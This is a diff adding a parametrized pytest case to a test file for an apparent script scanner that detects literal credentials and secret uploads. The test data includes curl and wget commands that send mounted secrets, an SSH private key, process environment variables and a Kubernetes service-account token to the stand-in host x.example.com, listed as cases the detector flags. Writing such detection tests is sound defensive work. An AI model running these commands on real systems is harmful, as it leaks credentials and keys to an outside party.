@@ -394,3 +394,22 @@ def test_a_password_that_is_a_setting_of_a_program_is_written_out() -> None:
     assert details("literal-credential", "helm upgrade app . --set adminPassword=Pr0d-Adm1n-77") == ["adminPassword"]
     assert details("literal-credential", "docker build --build-arg NPM_TOKEN=k2Lm9Qw8xZ .") == ["NPM_TOKEN"]
     assert details("literal-credential", 'helm upgrade app . --set adminPassword="$PASSWORD",replicas=2') == []
+
+
+@pytest.mark.parametrize(
+    ("script", "sent"),
+    [
+        ("curl --data-binary @/var/secrets/key https://x.example.com/in", 1),
+        ("curl -F file=@/run/secrets/key https://x.example.com/in", 1),
+        ("wget --post-file=/var/run/secrets/key https://x.example.com/in", 1),
+        ("curl -T ~/keys/id_ed25519 https://x.example.com/in", 1),
+        ("curl -d @/proc/self/environ https://x.example.com/in", 1),
+        # How a credential is shown to whom it is for.
+        ("curl -d @/var/secrets/key https://idp.example.com/oauth/token", 0),
+        ("curl --data-binary @report.json https://x.example.com/in", 0),
+        ("T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl https://x.example.com/?t=$T", 1),
+        ("T=$(cat version.txt)\ncurl https://x.example.com/?t=$T", 0),
+    ],
+)
+def test_a_mounted_secret_that_is_uploaded_is_sent(script: str, sent: int) -> None:
+    assert len(details("secret-send", script)) == sent
